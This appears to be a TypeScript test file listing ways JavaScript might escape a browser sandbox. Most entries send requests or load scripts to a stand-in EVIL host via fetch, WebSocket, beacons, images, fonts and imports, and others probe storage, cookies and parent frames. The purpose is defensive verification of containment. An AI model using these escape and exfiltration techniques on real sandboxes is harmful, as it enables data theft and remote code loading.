import type { Attempt, Outside } from './attempt.ts';

/** Tries to send something: resolves when it left, whatever came of it; rejects when a policy stopped it. */
const sends = (start: string): string => `
  return new Promise((resolve, reject) => {
    self.addEventListener('securitypolicyviolation', (event) => reject(event.effectiveDirective));
    const done = () => setTimeout(resolve, 500, 'left for the network');
    ${start}
  });`;

const settles = (request: string): string => `
  return new Promise((resolve, reject) => {
    const request = ${request};
    request.onsuccess = () => resolve('opened');
    request.onerror = () => reject(request.error);
  });`;

const workerThat = (script: string): string => `
  return new Promise((resolve, reject) => {
    const worker = new Worker(${script});
    worker.onmessage = ({ data }) => (String(data).startsWith('reached') ? resolve(data) : reject(data));
    worker.onerror = (event) => reject(event.message || 'it does not start');
  });`;

const NESTED_FETCH = `URL.createObjectURL(new Blob([
  'fetch("' + EVIL + 'nested", { mode: "no-cors" }).then(() => postMessage("reached"), (e) => postMessage(String(e)))']))`;
const NESTED_IMPORT = `URL.createObjectURL(new Blob([
  'try { importScripts("' + EVIL + 'nested.js"); postMessage("reached") } catch (e) { postMessage(String(e)) }']))`;

const attempts =
  (outside: Outside) =>
  ([name, code]: readonly [name: string, code: string]): Attempt => ({ name, code, outside });

const FROM_A_WORKER: readonly (readonly [name: string, code: string])[] = [
  ['fetch', `await fetch(EVIL + 'fetch', { mode: 'no-cors' });`],
  ['fetch with CORS', `return (await fetch(EVIL + 'cors')).status;`],
  ['fetch that posts and stays alive', `await fetch(EVIL, { method: 'POST', body: 'x', keepalive: true });`],
  ['fetch of the app', `return (await fetch(APP)).status;`],
  ['fetch of a data URL', `return (await fetch('data:text/plain,x')).status;`],
  ['fetch of a blob', `return (await fetch(URL.createObjectURL(new Blob(['x'])))).status;`],
  [
    'XMLHttpRequest',
    `await new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = () => reject('refused');
      request.open('GET', EVIL + 'xhr');
      request.send();
    });`,
  ],
  [
    'XMLHttpRequest, synchronous',
    `const request = new XMLHttpRequest(); request.open('GET', EVIL, false); request.send();`,
  ],
  ['WebSocket', sends(`new WebSocket(EVIL.replace('http', 'ws')).onerror = done;`)],
  ['WebSocketStream', sends(`new WebSocketStream(EVIL.replace('http', 'ws')).opened.then(done, done);`)],
  ['EventSource', sends(`new EventSource(EVIL + 'events').onerror = done;`)],
  ['WebTransport', sends(`new WebTransport(EVIL.replace('http', 'https')).ready.catch(() => {}); done();`)],
  // The file is served without leave for other origins: only a policy can stop the request itself.
  ['import of a URL', sends(`import(EVIL + 'import.js').then(done, done);`)],
  ['import of a data URL', `return (await import('data:text/javascript,export default 42')).default;`],
  ['importScripts', `importScripts(EVIL + 'script.js');`],
  ['importScripts of a data URL', `importScripts('data:text/javascript,1');`],
  ['a font', sends(`new FontFace('stolen', 'url(' + EVIL + 'font.woff)').load().then(done, done);`)],
  ['eval', `return (0, eval)('6 * 7');`],
  ['Function', `return new Function('return 6 * 7')();`],
  [
    'a timer with text',
    `await new Promise((resolve, reject) => {
      self.stolen = resolve;
      self.addEventListener('securitypolicyviolation', (event) => reject(event.effectiveDirective));
      setTimeout('self.stolen(42)');
    });`,
  ],
  ['IndexedDB', settles(`indexedDB.open('stolen')`)],
  ['the list of databases', `return (await indexedDB.databases()).length;`],
  [
    'the runs of the app',
    `const { name } = (await indexedDB.databases())[0];
    return new Promise((resolve, reject) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(name + ' ' + request.result.objectStoreNames.length);
      request.onerror = () => reject(request.error);
    });`,
  ],
  ['cache storage', `return (await caches.open('stolen')).constructor.name;`],
  ['the list of caches', `return (await caches.keys()).length;`],
  ['the private file system', `return (await navigator.storage.getDirectory()).kind;`],
  ['how much is stored', `return (await navigator.storage.estimate()).quota;`],
  ['locks', `await navigator.locks.request('stolen', () => 1);`],
  [
    'BroadcastChannel to the page',
    `const channel = new BroadcastChannel('app');
    await new Promise((resolve, reject) => {
      channel.onmessage = resolve;
      channel.postMessage('hello');
      setTimeout(reject, 1000, 'nobody answers');
    });`,
  ],
  ['a worker from the app', `new Worker(APP + 'worker.js').terminate();`],
  ['a worker from a data URL', workerThat(`'data:text/javascript,postMessage("reached")'`)],
  ['a nested worker that fetches', workerThat(NESTED_FETCH)],
  ['a nested worker that imports', workerThat(NESTED_IMPORT)],
  [
    'permissions',
    `const { state } = await navigator.permissions.query({ name: 'notifications' });
    if (state === 'denied') throw state;`,
  ],
];

const FROM_THE_PAGE: readonly (readonly [name: string, code: string])[] = [
  ['SharedWorker', `new SharedWorker(URL.createObjectURL(new Blob([''])));`],
  ['localStorage', `localStorage.setItem('stolen', '1'); localStorage.removeItem('stolen');`],
  ['sessionStorage', `return sessionStorage.length;`],
  ['cookies', `document.cookie = 'stolen=1'; return document.cookie;`],
  ['the cookie store', `return (await cookieStore.getAll()).length;`],
  ['a beacon', `if (!navigator.sendBeacon(EVIL + 'beacon', 'x')) throw 'refused';`],
  [
    'an image',
    `await new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = EVIL + 'image.png';
    });`,
  ],
  [
    'a peer connection',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: EVIL.replace('http://', 'stun:').slice(0, -1) }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription();
    await new Promise((resolve) => setTimeout(resolve, 400));`,
  ],
  ['the document', `return document.title;`],
  ['the parent', `return parent.location.href;`],
  ['the page that everything is in', `top.location.hash = 'stolen'; return top.location.hash;`],
  ['a message to the parent', `parent.postMessage('stolen', '*');`],
  ['a pop-up', `const popup = open('about:blank'); popup.close();`],
  ['a frame', `const frame = document.createElement('iframe'); document.body.append(frame); frame.remove();`],
  ['service workers', `return (await top.navigator.serviceWorker.getRegistrations()).length;`],
  [
    'the clipboard',
    `await navigator.clipboard.writeText('stolen').catch((error) => {
      if (error.name !== 'NotAllowedError') throw error; // it is there, and asks the person first
    });`,
  ],
  ['a notification', `return Notification.requestPermission.name;`],
];

/** Attempts of JavaScript to reach out of the sandbox. */
export const JAVASCRIPT_ATTEMPTS: readonly Attempt[] = [
  ...FROM_A_WORKER.map(attempts('worker')),
  ...FROM_THE_PAGE.map(attempts('page')),
];
